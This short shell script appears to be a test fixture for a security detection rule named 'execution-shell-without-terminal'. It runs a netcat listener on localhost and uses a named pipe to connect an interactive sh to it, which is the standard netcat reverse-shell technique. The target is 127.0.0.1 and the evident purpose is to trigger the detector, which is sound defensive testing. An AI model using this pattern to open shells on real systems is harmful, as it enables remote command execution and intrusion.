# in: host nc.traditional
# fires: execution-shell-without-terminal
nc.traditional -l -p 47444 -q 1 < /dev/null > /dev/null &
sleep 0.3
way=$(mktemp -u)
mkfifo "$way"
sh -i < "$way" 2>&1 | nc.traditional -q 1 127.0.0.1 47444 > "$way"
rm "$way"
